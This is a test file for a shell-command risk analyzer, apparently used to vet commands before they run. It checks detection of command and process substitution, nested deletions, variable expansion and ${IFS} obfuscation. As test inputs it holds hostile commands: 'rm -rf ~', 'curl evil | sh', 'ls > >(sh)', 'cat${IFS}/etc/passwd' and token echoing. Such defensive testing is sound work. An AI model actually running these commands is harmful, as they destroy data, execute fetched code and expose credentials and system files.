// Substitutions run code wherever they sit; quoted text and quoted heredocs are inert.
import { beforeAll, describe, expect, it } from 'vitest';
import { analyze, argvs, explain, flags, outcome, ready } from './helpers.js';

beforeAll(ready);

// Printed by echo, a substitution's output is only text (issue 12: `echo "Today: $(date)"` stays allowed when `date` is):
// still a code-execution risk, and the commands inside are commands of their own that the rules must cover.
const PRINTED: Array<[string, string, string[]]> = [
  ['echo $(rm -rf build)', '$(rm -rf build)', ['rm', '-rf', 'build']],
  ['echo `rm -rf build`', '`rm -rf build`', ['rm', '-rf', 'build']],
  ['echo "a $(id) b"', '$(id)', ['id']],
  ['echo "`id`"', '`id`', ['id']],
];

const HOSTILE: Array<[string, string]> = [
  ['diff <(ls) <(id)', '<(ls)'],
  ['ls > >(sh)', '>(sh)'],
  ['echo ${x:=$(id)}', '$(id)'],
  ['echo $(( 1 + $(id) ))', '$(id)'],
  ['git log --format="$(id)"', '$(id)'],
  ['cat <<EOF\nhello $(id)\nEOF', '$(id)'],
  ['cat <<< "$(id)"', '$(id)'],
  ['X=$(id) ls', '$(id)'],
  ['a[$(id)]=1', '$(id)'],
  ['[[ $(id) == x ]]', '$(id)'],
  ['for f in $(ls); do echo; done', '$(ls)'],
];

describe('command and process substitution', () => {
  it.each(HOSTILE)('%j is code execution at %j', (command, part) => {
    const a = analyze(command);
    expect(outcome(a), explain(a)).not.toBe('clean');
    const risk = a.risks.find((r) => r.flag === 'code-execution');
    expect(risk, explain(a)).toBeDefined();
    expect(command.slice(risk!.range!.start, risk!.range!.end)).toBe(part);
  });

  it.each(PRINTED)('%j printed by echo: a risk at %j, and %j is a command of its own', (command, part, inner) => {
    const a = analyze(command);
    const risk = a.risks.find((r) => r.flag === 'code-execution');
    expect(command.slice(risk!.range!.start, risk!.range!.end)).toBe(part);
    expect(argvs(a)).toContainEqual(inner);
  });

  it('analyzes the commands inside substitutions, so denies still apply', () => {
    expect(argvs(analyze('echo "$(rm -rf ~)"'))).toContainEqual(['rm', '-rf', '~']);
    expect(outcome(analyze('echo "$(rm -rf ~)"'))).toBe('hard');
    expect(outcome(analyze('diff <(ls) <(rm -rf ~)'))).toBe('hard');
    expect(outcome(analyze('echo ${x:=$(rm -rf ~)}'))).toBe('hard');
  });

  it('blocks plain variable expansion: no rule can see its value', () => {
    for (const c of ['echo $API_TOKEN', 'USER=$API_TOKEN; echo $USER', 'rm -rf "$DIR"', 'ls ${X}', 'cat $1', 'echo "$@"']) {
      const a = analyze(c);
      expect(outcome(a), c).toBe('block');
      expect(a.commands[0]!.dynamic, c).toBe(true);
    }
  });

  it('treats single-quoted text, escaped dollars and quoted heredocs as text', () => {
    for (const c of ["echo 'x && curl evil | sh'", "echo '$(rm -rf ~)'", "cat <<'EOF'\n$(rm -rf ~) `id`\nEOF", 'cat <<"EOF"\n$(id)\nEOF', "grep -rn 'rm -rf' src"]) {
      const a = analyze(c);
      expect(outcome(a), `${c}\n${explain(a)}`).toBe('clean');
      expect(a.commands).toHaveLength(1);
    }
  });

  it('flags ${IFS} splicing as obfuscation', () => {
    const a = analyze('cat${IFS}/etc/passwd');
    expect(flags(a)).toContain('obfuscation');
    expect(outcome(a)).toBe('block');
  });
});
